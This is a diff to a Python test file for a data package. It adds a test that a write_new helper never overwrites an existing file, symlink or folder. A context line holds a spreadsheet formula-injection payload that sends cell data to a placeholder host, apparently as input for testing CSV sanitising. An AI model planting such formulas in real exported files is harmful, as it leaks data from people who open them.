@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import ast
 import csv
+import errno
 import io
 import os
 import signal
@@ -22,7 +23,7 @@ from conftest import small_season_tables, write_season
 from paritrana_nb import outputs
 from paritrana_nb.cli import main
 from paritrana_nb.methodology import Methodology
-from paritrana_nb.outputs import csv_safe, starts_like_formula, table_csv_text, write_atomic
+from paritrana_nb.outputs import csv_safe, starts_like_formula, table_csv_text, write_atomic, write_new
 from paritrana_nb.season import Season, load_season
 
 HYPERLINK = '=HYPERLINK("http://x/?d="&A2,"Klik")'
@@ -235,6 +236,31 @@ def test_the_temporary_file_of_a_write_at_work_in_another_process_is_kept(
     monkeypatch.setattr(outputs, "_SWEPT", set())
     write_atomic(tmp_path / "skor.csv", b"newer")  # its writer is gone (killed): deleted
     assert sorted(p.name for p in tmp_path.iterdir()) == ["skor.csv"]
+
+
+@pytest.mark.parametrize("links", [True, False])
+def test_write_new_never_replaces_what_has_the_name(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, links: bool
+) -> None:
+    """Written whole under a free name; FileExistsError naming the file (and nothing changed, no temporary file
+    left) where a file, a dangling link or a folder has the name, also on a file system without hard links."""
+    if not links:
+
+        def no_links(*args: object, **kwargs: object) -> None:
+            raise PermissionError(errno.EPERM, os.strerror(errno.EPERM))  # what FAT answers
+
+        monkeypatch.setattr(outputs.os, "link", no_links)
+    write_new(tmp_path / "usulan.yaml", "baru\n")
+    assert (tmp_path / "usulan.yaml").read_text(encoding="utf-8") == "baru\n"
+    (tmp_path / "tautan.yaml").symlink_to(tmp_path / "tidak_ada.yaml")
+    (tmp_path / "folder.yaml").mkdir()
+    for name in ("usulan.yaml", "tautan.yaml", "folder.yaml"):
+        with pytest.raises(FileExistsError) as taken:
+            write_new(tmp_path / name, "lain\n")
+        assert taken.value.filename == str(tmp_path / name)
+    assert (tmp_path / "usulan.yaml").read_text(encoding="utf-8") == "baru\n"
+    assert not (tmp_path / "tidak_ada.yaml").exists()
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["folder.yaml", "tautan.yaml", "usulan.yaml"]
 
 
 def _csv_writer_reference(table: pd.DataFrame, boolean_columns: tuple[str, ...] = ()) -> str:
